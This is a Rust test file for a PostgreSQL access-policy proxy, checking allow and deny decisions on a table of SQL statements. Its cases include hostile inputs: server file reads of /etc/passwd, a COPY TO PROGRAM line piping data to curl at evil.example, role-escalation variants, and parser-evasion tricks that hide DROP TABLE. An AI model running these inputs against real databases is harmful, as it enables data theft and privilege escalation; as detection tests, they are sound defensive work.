//! Table-driven tests of the policy engine, against the shipped `policies/example.toml` and
//! `policies/default.toml`.

use std::collections::HashMap;
use std::sync::Arc;

use chrono::{DateTime, TimeZone, Utc};

use super::*;

const EXAMPLE: &str = include_str!("../../../policies/example.toml");

fn example() -> Policy {
    Policy::from_toml("policies/example.toml", EXAMPLE).expect("example policy compiles")
}

fn default_policy() -> Policy {
    Policy::from_toml("policies/default.toml", DEFAULT_POLICY_TOML).expect("default policy compiles")
}

fn id(user: &str, groups: &[&str]) -> Identity {
    Identity {
        user: user.into(),
        groups: groups.iter().map(|g| g.to_string()).collect(),
        jti: "t".into(),
        expires_at: i64::MAX,
        issued_at: 0,
    }
}

/// Tuesday 2025-06-10 12:00 UTC: outside the example's change window.
fn noon() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2025, 6, 10, 12, 0, 0).unwrap()
}

/// Tuesday 2025-06-10 19:00 UTC: inside the change window.
fn evening() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2025, 6, 10, 19, 0, 0).unwrap()
}

#[derive(Clone, Copy, Debug)]
enum P {
    Example,
    Default,
}

#[derive(Clone, Copy, Debug)]
enum T {
    Noon,
    Evening,
}

use Action::{Allow, Deny};
use P::{Default as Dflt, Example as Ex};
use T::{Evening, Noon};

/// (policy, groups, database, time, SQL, expected decision, expected rule)
type Case = (P, &'static [&'static str], &'static str, T, &'static str, Action, &'static str);

const A: &[&str] = &["analysts"];
const E: &[&str] = &["engineers"];
const DBA: &[&str] = &["dba"];
const AHR: &[&str] = &["analysts", "hr"];
const NONE: &[&str] = &[];
const ADM: &[&str] = &["pgward_admins"];

#[rustfmt::skip]
const CASES: &[Case] = &[
    // --- plain reads and writes ---
    (Ex, A, "app", Noon, "SELECT * FROM orders", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "select id, total FROM Orders where id = 1", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "  select * from orders ; -- trailing comment", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "", Allow, "empty"),
    (Ex, A, "app", Noon, "BEGIN", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "SET work_mem = '64MB'", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "SHOW work_mem", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "LISTEN jobs", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "COPY orders TO STDOUT", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "DELETE FROM orders WHERE id = 1", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "insert into orders values (1)", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "COPY orders FROM STDIN", Deny, "default:analysts"),
    (Ex, E, "app", Noon, "INSERT INTO orders VALUES (1)", Allow, "engineers-dml"),
    (Ex, E, "app", Noon, "UPDATE orders SET total = 0 WHERE id = 7", Allow, "engineers-dml"),
    (Ex, E, "analytics", Noon, "INSERT INTO orders VALUES (1)", Deny, "default:engineers"),
    (Ex, NONE, "app", Noon, "SELECT 1", Deny, "default"),
    // --- writes hidden in reads ---
    (Ex, A, "app", Noon, "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT * FROM orders FOR UPDATE", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "select * from orders o join items i on i.o = o.id for share of o", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT * INTO orders_copy FROM orders", Deny, "ddl-outside-window"),
    (Ex, A, "app", Evening, "SELECT * INTO orders_copy FROM orders", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", Deny, "default:analysts"),
    // --- UPDATE / DELETE without WHERE ---
    (Ex, A, "app", Noon, "UPDATE orders SET total = 0", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "DELETE FROM orders", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "DELETE FROM orders WHERE 1 = 1", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "update orders set total = 0 where true or id = 3", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "TRUNCATE orders", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d", Deny, "no-unbounded-writes"),
    (Ex, DBA, "app", Noon, "DELETE FROM orders", Allow, "default:dba"),
    // --- functions, wherever they hide ---
    (Ex, A, "app", Noon, "SELECT pg_read_file('/etc/passwd')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT \"pg_read_file\"('/etc/passwd')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT/**/pg_read_file(/* x */'/etc/passwd')--", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT * FROM pg_ls_dir('.') AS f", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT id FROM orders WHERE id IN (SELECT length(dblink_exec('host=x', 'drop table t')))", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "WITH x AS (SELECT lo_export(1, '/tmp/x')) SELECT * FROM x", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT CASE WHEN true THEN pg_terminate_backend(42) END", Deny, "no-dangerous-functions"),
    // Unicode-escaped identifier: sqlparser alone reads this as `U & "\0070g_read_file"(…)`.
    (Ex, A, "app", Noon, "SELECT U&\"\\0070g_read_file\"('PG_VERSION')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT U&\"!0070g_read_file\" UESCAPE '!'('PG_VERSION')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT * FROM table_to_xml('hr.salaries', true, false, '')", Deny, "no-dangerous-functions"),
    (Ex, DBA, "app", Noon, "SELECT pg_terminate_backend(42)", Allow, "default:dba"),
    // --- COPY to/from the server ---
    (Ex, A, "app", Noon, "COPY orders TO PROGRAM 'curl -d @- evil.example'", Deny, "no-server-access"),
    (Ex, E, "app", Noon, "copy orders from '/var/lib/postgresql/x.csv'", Deny, "no-server-access"),
    (Ex, E, "app", Noon, "COPY (SELECT 1) TO PROGRAM 'id'", Deny, "no-server-access"),
    (Ex, DBA, "app", Noon, "COPY orders TO PROGRAM 'gzip > /backup/orders.gz'", Allow, "default:dba"),
    // --- tables and schemas ---
    (Ex, A, "app", Noon, "SELECT * FROM hr.employees", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT * FROM \"HR\".\"EMPLOYEES\"", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT * FROM orders o JOIN hr.employees e ON e.id = o.owner", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT * FROM salaries", Deny, "salaries-table"),
    (Ex, A, "app", Noon, "SELECT (SELECT max(amount) FROM public.salaries)", Deny, "salaries-table"),
    (Ex, A, "app", Noon, "SELECT 1, 2 UNION ALL TABLE hr.employees", Deny, "hr-schema"),
    (Ex, AHR, "app", Noon, "SELECT * FROM hr.employees", Allow, "analysts-read"),
    // --- multi-statement strings ---
    (Ex, A, "app", Noon, "SELECT 1; SELECT 2", Deny, "analysts-single-statement"),
    (Ex, E, "app", Noon, "SELECT 1; DROP TABLE orders", Deny, "ddl-outside-window"),
    (Ex, E, "app", Noon, "INSERT INTO orders VALUES (1); insert into orders values (2)", Allow, "engineers-dml"),
    // sqlparser stops at a bare END; Postgres reads END as an alias and runs the DROP.
    (Ex, DBA, "app", Noon, "SELECT 1 END; DROP TABLE orders", Deny, "ddl-outside-window"),
    (Ex, E, "app", Noon, "SELECT 1 END; DROP TABLE orders", Deny, "unparsable"),
    (Ex, A, "app", Noon, "SELECT 1 END", Deny, "unparsable:analysts"),
    // The tokenizer would swallow the lines after COPY … FROM STDIN; as inline data.
    (Ex, E, "app", Noon, "COPY orders FROM STDIN;\nDROP TABLE orders", Deny, "ddl-outside-window"),
    // --- DDL and time windows ---
    (Ex, E, "app", Noon, "CREATE TABLE t (id int)", Deny, "ddl-outside-window"),
    (Ex, E, "app", Evening, "CREATE TABLE t (id int)", Allow, "engineers-ddl-in-window"),
    (Ex, E, "app", Evening, "GRANT SELECT ON orders TO PUBLIC", Deny, "default:engineers"),
    (Ex, DBA, "app", Noon, "DROP TABLE orders", Deny, "ddl-outside-window"),
    (Ex, DBA, "app", Evening, "drop table orders", Allow, "default:dba"),
    // --- procedural code, prepared statements ---
    (Ex, A, "app", Noon, "DO $$BEGIN EXECUTE 'DROP TABLE orders'; END$$", Deny, "default:analysts"),
    (Ex, E, "app", Noon, "CALL refresh_all()", Deny, "default:engineers"),
    (Ex, A, "app", Noon, "PREPARE p AS DELETE FROM orders WHERE id = $1", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "PREPARE q AS SELECT * FROM orders WHERE id = $1", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "EXECUTE q(1)", Deny, "default:analysts"),
    (Ex, E, "app", Noon, "PREPARE r AS SELECT pg_read_file($1)", Deny, "no-dangerous-functions"),
    // --- identity changes: denied to everyone, in every form ---
    (Ex, A, "app", Noon, "SET ROLE postgres", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "set local role dba", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "RESET ROLE", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET role TO 'dba'", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET SESSION AUTHORIZATION 'postgres'", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "RESET SESSION AUTHORIZATION", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SELECT set_config('role', 'dba', false)", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "select pg_catalog.SET_CONFIG('ROLE', 'dba', false)", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SELECT set_config(new_value => 'dba', setting_name => 'role', is_local => false)", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SELECT set_config('work_mem', '64MB', false)", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "SET SESSION ROLE dba", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET \"ROLE\" = 'dba'", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SELECT set_config(name, 'dba', false) FROM (VALUES ('role')) v(name)", Deny, "builtin:identity-change"),
    (Ex, E, "app", Noon, "UPDATE pg_settings SET setting = 'dba' WHERE name = 'role'", Deny, "builtin:identity-change"),
    (Ex, DBA, "app", Noon, "SET ROLE postgres", Deny, "builtin:identity-change"),
    (Ex, DBA, "app", Noon, "DISCARD ALL", Deny, "builtin:identity-change"),
    (Ex, DBA, "app", Evening, "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ RESET ROLE $$", Deny, "builtin:identity-change"),
    (Ex, DBA, "app", Noon, "DO $$BEGIN EXECUTE 'set role postgres'; END$$", Deny, "builtin:identity-change"),
    (Ex, E, "app", Noon, "SELECT 1; SET ROLE dba", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET standard_conforming_strings = off", Deny, "builtin:protected-setting"),
    (Ex, A, "app", Noon, "SET standard_conforming_strings = on", Allow, "analysts-read"),
    (Ex, DBA, "app", Evening, "ALTER ROLE bob SET standard_conforming_strings = off", Deny, "builtin:protected-setting"),
    (Ex, DBA, "app", Evening, "ALTER DATABASE app SET standard_conforming_strings TO off", Deny, "builtin:protected-setting"),
    (Ex, A, "app", Noon, "/* hi */ SeT /**/ RoLe -- x\n postgres", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET search_path TO hr, public", Deny, "analysts-no-search-path"),
    (Ex, A, "app", Noon, "SET client_encoding = 'SJIS'", Deny, "builtin:protected-setting"),
    (Ex, A, "app", Noon, "SET NAMES 'big5'", Deny, "builtin:protected-setting"),
    (Ex, A, "app", Noon, "SET client_encoding TO 'UTF8'", Allow, "analysts-read"),
    // --- unparsable statements ---
    (Ex, A, "app", Noon, "CHECKPOINT", Deny, "unparsable:analysts"),
    (Ex, DBA, "app", Noon, "CHECKPOINT", Allow, "default:dba"),
    (Ex, DBA, "app", Noon, "ALTER SYSTEM SET standard_conforming_strings = off", Deny, "builtin:protected-setting"),
    // --- the default policy ---
    (Dflt, NONE, "app", Noon, "DROP TABLE orders", Allow, "default"),
    (Dflt, A, "app", Noon, "DELETE FROM orders", Allow, "default"),
    (Dflt, A, "app", Noon, "COPY orders TO PROGRAM 'id'", Deny, "no-server-programs"),
    (Dflt, ADM, "app", Noon, "COPY orders TO PROGRAM 'id'", Allow, "default:pgward_admins"),
    (Dflt, A, "app", Noon, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Deny, "no-server-functions"),
    (Dflt, A, "app", Noon, "SELECT * FROM dblink('dbname=app', 'select 1') AS t(x int)", Deny, "no-server-functions"),
    (Dflt, A, "app", Noon, "DO $$BEGIN PERFORM pg_read_file('/etc/passwd'); END$$", Deny, "no-server-functions"),
    (Dflt, A, "app", Noon, "SET ROLE postgres", Deny, "builtin:identity-change"),
    (Dflt, A, "app", Noon, "CHECKPOINT", Deny, "unparsable"),
    (Dflt, ADM, "app", Noon, "CHECKPOINT", Allow, "default:pgward_admins"),
];

#[test]
fn decision_table() {
    let ex = example();
    let df = default_policy();
    assert!(CASES.len() >= 40);
    let mut failures = Vec::new();
    for (i, (p, groups, db, t, sql, want, rule)) in CASES.iter().enumerate() {
        let policy = match p {
            Ex => &ex,
            Dflt => &df,
        };
        let now = match t {
            Noon => noon(),
            Evening => evening(),
        };
        let v = policy.decide(&id("alice", groups), db, sql, now);
        if v.decision != *want || v.rule != *rule {
            failures.push(format!(
                "case {i}: {p:?} {groups:?} {db} {t:?} {sql:?}: want {want} by {rule:?}, got {} by {:?} ({}); classes {:?}",
                v.decision, v.rule, v.reason, v.statements.iter().map(|s| (s.info.classes.iter().collect::<Vec<_>>(), s.info.modifiers.iter().collect::<Vec<_>>(), s.info.functions.iter().map(|f| f.to_string()).collect::<Vec<_>>())).collect::<Vec<_>>()
            ));
        }
        // Cached: the same answer again (memo hit).
        let again = policy.decide(&id("alice", groups), db, sql, now);
        assert_eq!((again.decision, &again.rule), (v.decision, &v.rule), "case {i} changed on the second call");
    }
    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), CASES.len(), failures.join("\n"));
}

/// (SQL, primary class, modifiers that must be present)
#[rustfmt::skip]
const CLASSES: &[(&str, StatementClass, &[Modifier])] = &[
    ("SELECT 1", StatementClass::Read, &[]),
    ("VALUES (1)", StatementClass::Read, &[]),
    ("TABLE orders", StatementClass::Read, &[]),
    ("SELECT * FROM t FOR UPDATE", StatementClass::Write, &[Modifier::ForUpdate]),
    ("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x", StatementClass::Write, &[Modifier::CteWrite, Modifier::NoWhere]),
    ("INSERT INTO t SELECT * FROM u", StatementClass::Write, &[]),
    ("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", StatementClass::Write, &[]),
    ("LOCK TABLE t", StatementClass::Write, &[]),
    ("NOTIFY ch, 'x'", StatementClass::Write, &[]),
    ("REFRESH MATERIALIZED VIEW m", StatementClass::Write, &[]),
    ("CREATE TABLE t AS SELECT 1", StatementClass::Ddl, &[]),
    ("CREATE INDEX ON t (a)", StatementClass::Ddl, &[]),
    ("ALTER TABLE t ADD COLUMN b int", StatementClass::Ddl, &[]),
    ("DROP SCHEMA hr CASCADE", StatementClass::Ddl, &[]),
    ("COMMENT ON TABLE t IS 'x'", StatementClass::Ddl, &[]),
    ("CREATE EXTENSION dblink", StatementClass::Ddl, &[]),
    ("GRANT SELECT ON t TO bob", StatementClass::Dcl, &[]),
    ("REVOKE ALL ON t FROM bob", StatementClass::Dcl, &[]),
    ("CREATE ROLE bob", StatementClass::Dcl, &[]),
    ("ALTER ROLE bob SET search_path = hr", StatementClass::Dcl, &[Modifier::SearchPath]),
    ("DROP ROLE bob", StatementClass::Dcl, &[]),
    ("BEGIN", StatementClass::Transaction, &[]),
    ("START TRANSACTION READ ONLY", StatementClass::Transaction, &[]),
    ("COMMIT", StatementClass::Transaction, &[]),
    ("SAVEPOINT a", StatementClass::Transaction, &[]),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", StatementClass::Transaction, &[]),
    ("SET TIME ZONE 'UTC'", StatementClass::Session, &[]),
    ("RESET ALL", StatementClass::Session, &[]),
    ("DISCARD PLANS", StatementClass::Session, &[]),
    ("DEALLOCATE p", StatementClass::Session, &[]),
    ("VACUUM t", StatementClass::Admin, &[]),
    ("ANALYZE t", StatementClass::Admin, &[]),
    ("COPY t TO '/tmp/x'", StatementClass::Admin, &[Modifier::CopyFile]),
    ("COPY t FROM PROGRAM 'id'", StatementClass::Admin, &[Modifier::CopyProgram]),
    ("CALL p()", StatementClass::Procedural, &[]),
    ("DO $$ BEGIN NULL; END $$", StatementClass::Procedural, &[]),
    ("DO LANGUAGE plpgsql $$ BEGIN NULL; END $$", StatementClass::Procedural, &[]),
    ("EXECUTE p", StatementClass::Write, &[Modifier::UnknownPrepared]),
    ("CHECKPOINT", StatementClass::Admin, &[Modifier::Unparsable]),
    ("FROBNICATE everything", StatementClass::Unknown, &[Modifier::Unparsable]),
];

#[test]
fn classification_table() {
    let mut failures = Vec::new();
    for (sql, class, mods) in CLASSES {
        let infos = analyze_sql(sql);
        if infos.len() != 1 {
            failures.push(format!("{sql:?}: {} statements", infos.len()));
            continue;
        }
        let i = &infos[0];
        if i.class() != *class || !mods.iter().all(|m| i.modifiers.contains(*m)) {
            failures.push(format!(
                "{sql:?}: want {class} {mods:?}, got {} {:?} (classes {:?})",
                i.class(),
                i.modifiers.iter().collect::<Vec<_>>(),
                i.classes.iter().collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn tables_functions_and_statement_split() {
    let infos = analyze_sql(
        "SELECT a.x, lower(b.y) FROM app.a JOIN b ON true; /* ; */ INSERT INTO hr.salaries SELECT * FROM generate_series(1, 3)",
    );
    assert_eq!(infos.len(), 2);
    let names = |v: &[QName]| v.iter().map(|q| q.to_string()).collect::<Vec<_>>();
    assert_eq!(names(&infos[0].tables), vec!["b".to_string(), "app.a".to_string()]);
    assert_eq!(names(&infos[0].functions), vec!["lower".to_string()]);
    assert_eq!(names(&infos[1].tables), vec!["hr.salaries".to_string()]);
    assert_eq!(names(&infos[1].functions), vec!["generate_series".to_string()]);
    assert!(infos.iter().all(|i| i.modifiers.contains(Modifier::MultiStatement)));
    assert_eq!(infos[1].schemas, vec!["hr".to_string()]);
    // Only comments and semicolons: no statement.
    assert!(analyze_sql(" -- nothing\n ; /* x */ ;").is_empty());
}

#[test]
fn execute_uses_the_prepared_statement_when_the_session_knows_it() {
    let p = example();
    let alice = id("alice", A);
    let prepared: HashMap<&str, &str> = [
        ("q", "PREPARE q AS SELECT * FROM orders WHERE id = $1"),
        ("w", "DELETE FROM orders WHERE id = $1"),
        ("Mixed", "SELECT 1"),
    ]
    .into_iter()
    .collect();
    let lookup = |n: &str| prepared.get(n).map(|s| s.to_string());
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE q(1)", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "analysts-read"));
    assert_eq!(v.classes, vec![StatementClass::Read]);
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE w(1)", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "default:analysts"));
    // Parameters are checked too.
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE q(length(pg_read_file('/etc/passwd')))", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "no-dangerous-functions"));
    // Names fold like Postgres's: unquoted lowercase, quoted exact.
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE \"Mixed\"", noon(), &lookup);
    assert_eq!(v.decision, Allow);
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE Mixed", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "default:analysts"));
    // Unknown name: conservative write.
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE nope", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "default:analysts"));
    assert!(v.statements[0].info.modifiers.contains(Modifier::UnknownPrepared));
}

#[test]
fn roles_and_groups() {
    let p = example();
    assert_eq!(p.role_for(&id("a", &["analysts"])).as_deref(), Some("analyst_ro"));
    // First [[group]] in policy order wins, whatever the token's order.
    assert_eq!(p.role_for(&id("a", &["dba", "analysts"])).as_deref(), Some("analyst_ro"));
    assert_eq!(p.role_for(&id("a", &["hr", "engineers"])).as_deref(), Some("app_rw"));
    assert_eq!(p.role_for(&id("a", &["hr"])), None);
    assert_eq!(p.role_for(&id("a", &[])), None);
    assert_eq!(p.set_role_sql(&id("a", &["dba"])).as_deref(), Some("SET ROLE \"dba\""));
    // Default action with several groups: deny wins.
    let v = p.decide(&id("a", &["dba", "analysts"]), "app", "DELETE FROM orders WHERE id = 1", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "default:analysts"));
}

#[test]
fn fastpath_calls() {
    let p = example();
    let v = p.decide_function_call(&id("a", E), "app", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "no-server-access"));
    let v = p.decide_function_call(&id("a", DBA), "app", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "default:dba"));
    let v = Policy::builtin_only().decide_function_call(&id("a", NONE), "app", noon());
    assert_eq!(v.decision, Allow);
}

#[test]
fn builtin_only_policy_allows_all_but_identity_changes() {
    let p = Policy::builtin_only();
    let a = id("a", NONE);
    let v = p.decide(&a, "app", "DROP TABLE x", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "default"));
    let v = p.decide(&a, "app", "CHECKPOINT", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "default"));
    assert!(v.unparsable);
    let v = p.decide(&a, "app", "SET SESSION AUTHORIZATION DEFAULT", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "builtin:identity-change"));
}

#[test]
fn verdict_shape_for_multi_statement_strings() {
    let p = example();
    let v = p.decide(&id("a", E), "app", "INSERT INTO orders VALUES (1); SELECT 1; DROP TABLE orders", noon());
    assert_eq!(v.decision, Deny);
    assert_eq!(v.rule, "ddl-outside-window");
    assert_eq!(v.statement_count, 3);
    assert_eq!(v.classes, vec![StatementClass::Write, StatementClass::Read, StatementClass::Ddl]);
    assert_eq!(v.statements[0].decision, Allow);
    assert_eq!(v.statements[2].decision, Deny);
    assert!(!v.unparsable);
    let d = v.to_decision();
    assert!(matches!(d, Decision::Deny { ref rule, .. } if rule == "ddl-outside-window"));
}

#[test]
fn merging_files_and_errors() {
    let base = r#"
        [defaults]
        action = "allow"
        [[group]]
        name = "a"
        role = "r1"
        [[rule]]
        name = "no-drop"
        action = "deny"
        commands = ["drop *"]
    "#;
    let overlay = r#"
        [[group]]
        name = "a"
        default = "deny"
        [[rule]]
        name = "a-reads"
        action = "allow"
        groups = ["a"]
        classes = ["read"]
    "#;
    let p =
        Policy::from_sources(&[("base.toml".into(), base.into()), ("overlay.toml".into(), overlay.into())]).unwrap();
    let who = id("u", &["a"]);
    assert_eq!(p.role_for(&who).as_deref(), Some("r1"));
    assert_eq!(p.decide(&who, "db", "SELECT 1", noon()).rule, "a-reads");
    assert_eq!(p.decide(&who, "db", "DROP TABLE x", noon()).rule, "no-drop");
    assert_eq!(p.decide(&who, "db", "INSERT INTO x VALUES (1)", noon()).rule, "default:a");
    assert_eq!(p.rule_names().collect::<Vec<_>>(), vec!["no-drop", "a-reads"]);

    let err = |files: &[(&str, &str)]| {
        Policy::from_sources(&files.iter().map(|(n, t)| (PathBuf::from(n), t.to_string())).collect::<Vec<_>>())
            .unwrap_err()
            .to_string()
    };
    assert!(err(&[("x.toml", "[[rule]]\nname = \"r\"\naction = \"allow\"\n")]).contains("[defaults] action"));
    assert!(err(&[("x.toml", "[defaults]\naction = \"maybe\"\n")]).contains("x.toml"));
    assert!(
        err(&[(
            "x.toml",
            "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"r\"\naction = \"deny\"\nclasses = [\"reads\"]\n"
        )])
        .contains("reads")
    );
    assert!(
        err(&[(
            "x.toml",
            "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"r\"\naction = \"deny\"\ncolour = \"red\"\n"
        )])
        .contains("colour")
    );
    assert!(
        err(&[("x.toml", base), ("y.toml", "[[rule]]\nname = \"no-drop\"\naction = \"deny\"\n")]).contains("duplicate")
    );
    assert!(
        err(&[(
            "x.toml",
            "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"r\"\naction = \"deny\"\nduring = \"never\"\n"
        )])
        .contains("unknown window")
    );
    assert!(
        err(&[(
            "x.toml",
            "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"r\"\naction = \"deny\"\nfunctions = [\"@nope\"]\n"
        )])
        .contains("@nope")
    );
    assert!(
        err(&[("x.toml", "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"default:x\"\naction = \"deny\"\n")])
            .contains("reserved")
    );
    assert!(err(&[("x.toml", "version = 2\n[defaults]\naction = \"allow\"\n")]).contains("version"));
}

#[test]
fn unparsable_setting_is_derived_from_restrictions() {
    // A policy that restricts nothing lets unparsable statements through (flagged).
    let open = Policy::from_toml("open.toml", "[defaults]\naction = \"allow\"\n").unwrap();
    let v = open.decide(&id("u", &["g"]), "db", "CHECKPOINT", noon());
    assert_eq!((v.decision, v.rule.as_str(), v.unparsable), (Allow, "default", true));
    // A deny rule naming the user's group makes them restricted.
    let closed = Policy::from_toml(
        "closed.toml",
        "[defaults]\naction = \"allow\"\n[[rule]]\nname = \"g-no-ddl\"\naction = \"deny\"\ngroups = [\"g\"]\nclasses = [\"ddl\"]\n",
    )
    .unwrap();
    let v = closed.decide(&id("u", &["g"]), "db", "CHECKPOINT", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "unparsable"));
    let v = closed.decide(&id("u", &["other"]), "db", "CHECKPOINT", noon());
    assert_eq!(v.decision, Allow);
    // An allowed unparsable statement still meets deny rules through the lexical scan.
    let v = open.decide(&id("u", &[]), "db", "CHECKPOINT; SELECT 1", noon());
    assert_eq!(v.decision, Allow);
    let fn_rule = Policy::from_toml(
        "f.toml",
        "[defaults]\naction = \"allow\"\nunparsable = \"allow\"\n[[rule]]\nname = \"nf\"\naction = \"deny\"\nfunctions = [\"pg_read_file\"]\n",
    )
    .unwrap();
    let v = fn_rule.decide(&id("u", &[]), "db", "SELECT pg_read_file('x') !!! ((", noon());
    assert_eq!((v.decision, v.rule.as_str(), v.unparsable), (Deny, "nf", true));
}

#[test]
fn shipped_policies_are_valid() {
    let d = default_policy();
    assert!(d.describe().contains("no-server-programs"));
    let e = example();
    assert!(e.describe().contains("analysts-read"));
}

/// A cached decision must be cheap. Generous bound so a loaded CI machine does not flake; the
/// `--ignored` benchmark below prints the real number.
#[test]
fn cached_decide_is_cheap() {
    let p = example();
    let who = id("alice", A);
    let sql = "SELECT o.id, o.total FROM orders o JOIN items i ON i.order_id = o.id WHERE o.id = $1";
    let now = noon();
    let first = p.decide(&who, "app", sql, now);
    let n = 20_000;
    let start = std::time::Instant::now();
    for _ in 0..n {
        let v = p.decide(&who, "app", sql, now);
        assert!(Arc::ptr_eq(&v, &first));
    }
    let per = start.elapsed() / n;
    assert!(per < std::time::Duration::from_micros(20), "cached decide took {per:?}");
}

#[test]
#[ignore]
fn bench_decide() {
    let p = example();
    let who = id("alice", A);
    let sql = "SELECT o.id, o.total FROM orders o JOIN items i ON i.order_id = o.id WHERE o.id = $1";
    let now = noon();
    let n = 1_000_000u32;
    p.decide(&who, "app", sql, now);
    let start = std::time::Instant::now();
    for _ in 0..n {
        std::hint::black_box(p.decide(&who, "app", sql, now));
    }
    println!("cached decide: {:?}/call", start.elapsed() / n);
    let start = std::time::Instant::now();
    for i in 0..10_000u32 {
        std::hint::black_box(p.decide(&who, "app", &format!("{sql} AND i.n = {i}"), now));
    }
    println!("uncached decide (parse): {:?}/call", start.elapsed() / 10_000);
}

#[test]
fn policy_is_shareable() {
    fn send_sync<T: Send + Sync>() {}
    send_sync::<Policy>();
    send_sync::<Verdict>();
}

#[test]
fn command_names() {
    let cmd = |sql: &str| analyze_sql(sql).remove(0).commands;
    assert_eq!(cmd("GRANT SELECT ON t TO bob"), ["grant"]);
    assert_eq!(cmd("REVOKE r FROM bob"), ["revoke"]);
    assert_eq!(cmd("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'"), ["create function"]);
    assert_eq!(cmd("CREATE UNIQUE INDEX i ON t (a)"), ["create index"]);
    assert_eq!(cmd("DROP TABLE a, b"), ["drop table"]);
    assert_eq!(cmd("create role bob"), ["create role"]);
    assert_eq!(cmd("WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d"), ["select", "delete"]);
    assert_eq!(cmd("EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE b = 2"), ["explain", "update"]);
    assert_eq!(cmd("CHECKPOINT"), ["checkpoint"]);
    assert_eq!(cmd("DO $$ BEGIN NULL; END $$"), ["do"]);
}
